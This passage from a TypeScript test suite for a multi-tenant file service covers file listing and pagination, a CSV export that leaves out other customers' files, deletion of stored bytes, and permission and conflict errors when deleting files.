        expect((await a.files.list({ from: new Date(Date.now() + 60_000) })).total).toBe(0);
        expect((await a.files.list({ to: new Date(Date.now() - 3600_000) })).total).toBe(0);
        const newest = await a.files.list({ itemsPerPage: 3 });
        const times = newest.items.map((f) => f.createdAt.getTime());
        expect([...times].sort((x, y) => y - x)).toEqual(times);
        const bySize = await a.files.list({ sortBy: 'size', orderBy: 'desc', itemsPerPage: 2 });
        expect(bySize.items[0].size).toBe(MAX_FILE_BYTES);
        const page2 = await a.files.list({ sortBy: 'name', page: 2, itemsPerPage: 2 });
        const names = (await a.files.list({ sortBy: 'name', itemsPerPage: 4 })).items.map((f) => f.id);
        expect(page2.items.map((f) => f.id)).toEqual(names.slice(2, 4));
        expect(page2.total).toBe((await a.files.list({})).total);
      });

      it("exports the visible files as CSV, never another customer's", async () => {
        const res = await get('/api/export/files.csv', 'admin@nws.demo.com');
        expect(res.statusCode).toBe(200);
        expect(res.body).toContain('berlin.png');
        expect(res.body).not.toContain('acme-only.png');
      });
    });

    describe('delete', () => {
      it('lets the uploader delete their file: the row and the stored bytes go', async () => {
        const { id } = await uploaded('qualitycontrol@demo.com', png, 'mistake.png');
        const qc = await t.caller('qualitycontrol@demo.com');
        expect((await qc.files.byId({ id })).canDelete).toBe(true);
        const row = await db(t.orm.em.fork())
          .selectFrom('files')
          .select(['storage_key', 'thumbnail_key'])
          .where('id', '=', id)
          .executeTakeFirstOrThrow();
        expect(await qc.files.delete({ id })).toEqual({ id, deleted: true });
        expect((await get(`/api/files/${id}`, 'qualitycontrol@demo.com')).statusCode).toBe(404);
        expect(await t.app.fileStorage.exists(row.storage_key)).toBe(false);
        expect(await t.app.fileStorage.exists(row.thumbnail_key!)).toBe(false);
      });

      it('refuses others: FORBIDDEN for a readable file of someone else, NOT_FOUND across customers; admin may', async () => {
        const lead = await uploaded('teamleader@demo.com', png, 'lead-only.png', { taskId: String(lyonTask.id) });
        const qc = await t.caller('qualitycontrol@demo.com');
        expect((await qc.files.byId({ id: lead.id })).canDelete).toBe(false);
        expect(await codeOf(qc.files.delete({ id: lead.id }))).toBe('FORBIDDEN');
        expect(await codeOf((await t.caller('analyst@demo.com')).files.delete({ id: lead.id }))).toBe('FORBIDDEN');
        expect(await codeOf((await t.caller('admin@nws.demo.com')).files.delete({ id: lead.id }))).toBe('NOT_FOUND');
        expect(await codeOf((await t.caller('businessadmin@demo.com')).files.delete({ id: lead.id }))).toBe('OK');
      });

      it("refuses to delete a submitted task's evidence with CONFLICT saying why", async () => {
        const evidence = await uploaded('qualitycontrol@demo.com', png, 'proof.png', {
          taskId: String(lyonTask.id),
          questionKey: 'q-front',
        });
        const k = db(t.orm.em.fork());
        await k
          .updateTable('tasks')
          .set({
            status: 'submitted',
            answers: JSON.stringify([
              { questionKey: 'q-front', value: true, na: false, comment: null, fileIds: [evidence.id] },
            ]),
          } as never)
          .where('id', '=', lyonTask.id)
          .execute();
        try {
          const qc = await t.caller('qualitycontrol@demo.com');
          expect((await qc.files.byId({ id: evidence.id })).canDelete).toBe(false);
          await expect(qc.files.delete({ id: evidence.id })).rejects.toMatchObject({
            code: 'CONFLICT',
            message: expect.stringMatching(/evidence in submitted task .*#\d+/) as unknown,
          });
          await expect((await t.caller('admin@demo.com')).files.delete({ id: evidence.id })).rejects.toMatchObject({
            code: 'CONFLICT',
          });
          expect((await get(`/api/files/${evidence.id}`, 'qualitycontrol@demo.com')).statusCode).toBe(200);
        } finally {
          await k
            .updateTable('tasks')
            .set({ status: 'in_progress', answers: JSON.stringify([]) } as never)
            .where('id', '=', lyonTask.id)
            .execute();
        }
      });
    });
  });
}
